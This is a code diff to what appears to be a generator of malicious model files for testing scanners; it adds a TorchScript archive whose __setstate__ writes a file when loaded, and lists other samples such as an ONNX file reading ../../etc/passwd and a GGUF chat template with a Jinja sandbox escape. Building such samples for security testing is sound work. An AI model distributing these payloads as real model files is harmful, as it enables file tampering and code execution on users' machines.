@@ -149,6 +149,45 @@ def safetensors(command: str) -> bytes:
     return struct.pack("<Q", len(raw)) + raw + b"\x00" * 24
 
 
+TORCHSCRIPT_CODE = """class Evil(Module):
+  __parameters__ = []
+  __buffers__ = []
+  training : bool
+  _is_full_backward_hook : Optional[bool]
+  state : int
+  def forward(self: __torch__.Evil,
+    x: Tensor) -> Tensor:
+    return x
+  def __getstate__(self: __torch__.Evil) -> List[int]:
+    state = self.state
+    return [state]
+  def __setstate__(self: __torch__.Evil,
+    state: List[int]) -> NoneType:
+    torch.save(state, PATH)
+    self.state = state[0]
+    self.training = False
+    self._is_full_backward_hook = None
+    return None
+"""
+
+
+def torchscript(command: str, path: str = "/tmp/trojanscope-torchscript-payload") -> bytes:
+    """A TorchScript archive (torch.jit.save layout) whose __setstate__ writes `path` while
+    torch.jit.load loads it: TorchScript runs no shell command, but it writes files (the
+    CVE-2025-32434 class, where torch.load(weights_only=True) handed such a file to
+    torch.jit.load)."""
+    return torchscript_archive(TORCHSCRIPT_CODE.replace("PATH", json.dumps(path)))
+
+
+def torchscript_archive(code: str) -> bytes:
+    """The torch.jit.save layout around `code` (class Evil of __torch__, one int of state)."""
+    state = (pp.proto(2) + pp.global_("__torch__", "Evil") + b")\x81" +
+             pp.global_("torch.jit._pickle", "build_intlist") + b"(](K\x01et" + b"Rb" + pp.STOP)
+    return mf.zip_of({"archive/data.pkl": state, "archive/code/__torch__.py": code.encode(),
+                      "archive/constants.pkl": pp.proto(2) + b")" + pp.STOP,
+                      "archive/version": b"3\n", "archive/byteorder": b"little"})
+
+
 def tokenizer_config(command: str) -> bytes:
     return json.dumps({"bos_token": "<s>", "chat_template": SSTI.replace("COMMAND", command)},
                       indent=2).encode()
@@ -165,6 +204,7 @@ GENERATORS: dict[str, tuple[Callable[[str], bytes], str]] = {
     "keras-h5": (keras_h5, "legacy HDF5 Keras model with a Lambda layer (needs h5py)"),
     "onnx-external": (onnx_external, "ONNX reading external data from ../../etc/passwd"),
     "onnx-shadow": (onnx_shadow, "ONNX classifier with shadow logic"),
+    "torchscript": (torchscript, "TorchScript archive whose __setstate__ writes a file on load"),
     "savedmodel": (savedmodel, "saved_model.pb with ReadFile/WriteFile/EagerPyFunc"),
     "gguf": (gguf, "GGUF with a Jinja sandbox escape in its chat template"),
     "safetensors": (safetensors, "safetensors with overlapping and out-of-range tensors"),
